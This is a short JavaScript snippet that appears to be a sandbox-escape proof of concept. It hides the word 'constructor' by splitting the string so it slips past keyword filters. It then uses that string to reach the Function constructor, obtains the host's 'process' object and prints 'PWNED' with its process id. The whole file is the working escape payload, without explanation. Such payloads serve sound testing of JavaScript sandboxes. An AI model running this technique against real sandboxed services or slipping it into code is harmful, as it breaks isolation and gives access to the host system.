const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const f = (o = t) => o.go(fn);
console.log('PWNED', f()('return process')().pid);
